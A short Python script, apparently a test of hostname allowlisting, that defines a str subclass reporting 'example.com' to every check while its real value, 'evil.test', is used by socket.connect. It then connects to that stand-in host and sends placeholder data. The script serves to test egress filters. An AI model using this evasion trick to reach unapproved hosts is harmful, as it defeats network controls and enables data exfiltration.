"""A str subclass that lies about its value in every method; connect reads the value itself."""
import socket


class Liar(str):
    """Its value is one name; everything that can be asked of it says another."""

    def lie(self, *_, **__):
        return "example.com"

    __str__ = __repr__ = __format__ = casefold = lower = strip = rstrip = lstrip = removesuffix = lie
    __getitem__ = translate = replace = lie

    def __eq__(self, other):
        return True

    def __hash__(self):
        return hash("example.com")

    def __contains__(self, other):
        return True

    startswith = endswith = __ne__ = isascii = __contains__

    def split(self, *_):
        return ["example", "com"]

    def rpartition(self, *_):
        return "", "", "example.com"

    partition = rpartition


client = socket.socket()
client.connect((Liar("evil.test"), 9000))
client.sendall(b"data")
